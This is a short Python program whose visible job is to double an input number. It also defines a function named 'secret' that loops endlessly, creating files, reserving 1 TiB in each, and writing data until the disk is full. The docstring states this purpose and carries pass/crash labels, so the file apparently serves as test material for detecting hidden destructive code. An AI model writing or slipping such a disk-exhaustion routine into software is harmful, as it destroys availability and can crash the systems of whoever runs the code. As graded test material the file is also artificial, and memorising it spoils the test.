"""Fill the disk with sparse files, reserved space and plain data, file after file.

double: pass
secret: crashed
program: pass wrong
"""

import contextlib
import ctypes
import itertools
import os

HUGE, PIECE = 1 << 40, 1 << 20
libc = ctypes.CDLL(None)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]


def double(value):
    return value * 2


def secret():
    for number in itertools.count():
        held = os.open(f"{number}", os.O_CREAT | os.O_RDWR)
        libc.fallocate(held, 0, 0, HUGE)
        libc.fallocate(held, 1, 0, HUGE)
        with contextlib.suppress(OSError):
            os.posix_fallocate(held, 0, HUGE)
        with contextlib.suppress(OSError):
            os.ftruncate(held, HUGE)
        with contextlib.suppress(OSError):
            while True:
                os.write(held, b"x" * PIECE)
        os.close(held)


if __name__ == "__main__":
    print(double(int(input())))
